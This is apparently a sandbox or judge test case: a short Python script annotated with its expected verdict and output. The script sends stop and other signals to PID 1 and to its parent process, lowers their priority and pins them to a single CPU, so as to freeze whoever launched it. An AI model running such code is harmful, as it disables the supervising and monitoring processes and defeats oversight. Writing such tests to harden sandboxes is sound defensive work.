# accept: ok
# prints: done
# Stops, traces and slows whoever has started it, so that the next program finds nobody.
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
for pid in {1, os.getppid()}:
    for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGUSR1, signal.SIGALRM):
        try:
            os.kill(pid, number)
        except OSError:
            pass
    libc.setpriority(0, pid, 19)
    libc.setpgid(pid, 0)
    libc.sched_setaffinity(pid, 8, b"\x01" + bytes(7))
libc.setpgid(0, 0)
print("done")
